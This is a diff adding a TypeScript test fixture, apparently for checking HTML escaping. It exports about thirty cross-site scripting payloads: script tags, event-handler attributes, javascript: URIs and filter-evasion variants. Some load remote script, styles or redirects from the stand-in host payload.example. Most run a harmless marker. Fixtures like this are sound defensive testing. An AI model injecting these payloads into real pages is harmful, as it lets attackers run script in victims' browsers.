@@ -1,0 +1,36 @@
+/** Run by a payload that got through; no policy stands in its way, so that the page alone must not run it. */
+const ran = 'globalThis.payloadRan=1';
+
+/** Texts that become code where a page writes them unescaped: one of each kind known to get through somewhere. */
+export const payloads: readonly string[] = [
+  `<script>${ran}</script>`,
+  `<script src=https://payload.example/x.js></script>`,
+  `<ScRiPt>${ran}</sCrIpT>`,
+  `<scr<script>ipt>${ran}</scr</script>ipt>`,
+  `<img src=x onerror=${ran}>`,
+  `<img src="x" onerror="${ran}" />`,
+  `<img/src=x/onerror=${ran}>`,
+  `<svg onload=${ran}>`,
+  `<svg><script>${ran}</script></svg>`,
+  `<svg><animate onbegin=${ran} attributeName=x dur=1s>`,
+  `<body onload=${ran}>`,
+  `<iframe srcdoc="<script>parent.${ran}</script>"></iframe>`,
+  `<iframe src="javascript:parent.${ran}"></iframe>`,
+  `<object data="data:text/html,<script>${ran}</script>"></object>`,
+  `<embed src="javascript:${ran}">`,
+  `<a href="javascript:${ran}">press</a>`,
+  `<form action="javascript:${ran}"><button autofocus>press`,
+  `<input autofocus onfocus=${ran}>`,
+  `<details open ontoggle=${ran}>`,
+  `<video><source onerror=${ran}></video>`,
+  `<math><mtext><style><img src onerror=${ran}></style></mtext></math>`,
+  `<style>@import 'https://payload.example/x.css';</style>`,
+  `<link rel=stylesheet href=https://payload.example/x.css>`,
+  `<meta http-equiv=refresh content="0;url=https://payload.example/">`,
+  `<base href="https://payload.example/">`,
+  `"><script>${ran}</script>`,
+  `' onmouseover='${ran}`,
+  `javascript:${ran}`,
+  `{{constructor.constructor('${ran}')()}}`,
+  `\${${ran}}<!--<img src=x onerror=${ran}>-->`,
+];
